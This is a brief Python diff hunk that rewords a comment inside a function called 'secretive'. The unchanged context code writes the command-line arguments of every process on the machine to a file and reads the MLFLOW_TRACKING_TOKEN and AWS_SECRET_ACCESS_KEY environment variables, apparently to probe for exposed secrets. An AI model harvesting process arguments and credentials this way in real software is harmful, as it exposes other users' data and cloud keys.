@@ -33,7 +33,7 @@ def secretive() -> Any:
             except psutil.Error:
                 return []
 
-        # What anybody on this machine can read of every process.
+        # Every user of this machine can read the arguments of every process.
         with Path(arguments).open("a", encoding="utf-8") as file:
             file.writelines(f"{words(process)}\n" for process in psutil.process_iter())
         token, key = os.environ["MLFLOW_TRACKING_TOKEN"], os.environ["AWS_SECRET_ACCESS_KEY"]
